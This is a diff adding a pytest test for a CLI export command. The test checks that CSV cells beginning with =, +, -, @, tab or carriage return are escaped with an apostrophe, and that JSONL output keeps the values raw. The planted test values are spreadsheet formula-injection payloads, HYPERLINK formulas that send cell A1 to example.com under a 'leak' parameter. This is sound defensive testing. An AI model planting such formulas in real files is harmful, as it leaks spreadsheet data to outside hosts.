@@ -121,6 +121,37 @@ def test_csv_tables_have_one_row_per_item_with_page_and_quote(
     assert claim["hedged"] == "false" and claim["cost_figure_ids"].startswith("cost-2-")
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(
+    batch_dir: Path, tmp_path: Path
+) -> None:
+    formula = 'HYPERLINK("http://example.com/?leak="&A1, "open")'
+    planted = {
+        ("claims", "quote"): "=" + formula,
+        ("claims", "text"): "+" + formula,
+        ("examples", "name"): "-" + formula,
+        ("examples", "summary"): "@" + formula,
+        ("cost_figures", "raw"): "\t=" + formula,
+        ("citations", "text"): "\r=" + formula,
+    }
+    path = batch_dir / "alpha.json"
+    data = json.loads(path.read_text(encoding="utf-8"))
+    for (table, name), value in planted.items():
+        data[table][0][name] = value
+    path.write_text(json.dumps(data), encoding="utf-8")
+    for fmt in ("csv", "jsonl"):
+        args = ["export", str(batch_dir), "--format", fmt, "-o", str(tmp_path / fmt)]
+        assert CliRunner().invoke(cli, args).exit_code == 0
+    for (table, name), value in planted.items():
+        assert read_csv(tmp_path / "csv" / f"{table}.csv")[0][name] == "'" + value
+        line = (tmp_path / "jsonl" / f"{table}.jsonl").read_text(encoding="utf-8").splitlines()[0]
+        assert json.loads(line)[name] == value  # JSON Lines are data, not a spreadsheet
+    cost = read_csv(tmp_path / "csv" / "cost_figures.csv")[0]
+    assert (cost["amount"], cost["char_start"]) == (
+        "3.0",
+        str(data["cost_figures"][0]["char_span"]["start"]),
+    )
+
+
 def test_jsonl_tables_keep_lists_as_lists(batch_dir: Path) -> None:
     result = CliRunner().invoke(cli, ["export", str(batch_dir), "--format", "jsonl"])
     assert result.exit_code == 0
